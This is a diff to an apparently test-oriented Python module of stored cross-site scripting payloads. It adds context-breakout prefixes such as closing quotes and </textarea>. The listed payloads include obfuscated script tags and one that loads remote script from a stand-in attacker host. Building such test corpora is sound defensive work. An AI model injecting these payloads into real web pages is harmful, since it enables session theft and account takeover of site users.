@@ -1,7 +1,7 @@
 """Payloads of stored cross-site scripting: what people who mean harm write where others read."""
 
 _JS = "javascript:alert(1)"
-PAYLOADS = (
+_PLAIN = (
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<script\x0c>alert(1)</script>",
@@ -99,3 +99,6 @@ PAYLOADS = (
     "\u2028<script>alert(1)</script>",
     "＜script＞alert(1)＜/script＞",
 )
+#: What closes the place in which a text stands.
+_BREAKOUTS = ('"', "'", "</textarea>", "</title>", "</script>", "--></style>")
+PAYLOADS = (*_PLAIN, *(f"{out}{payload}" for out in _BREAKOUTS for payload in _PLAIN[:20]))
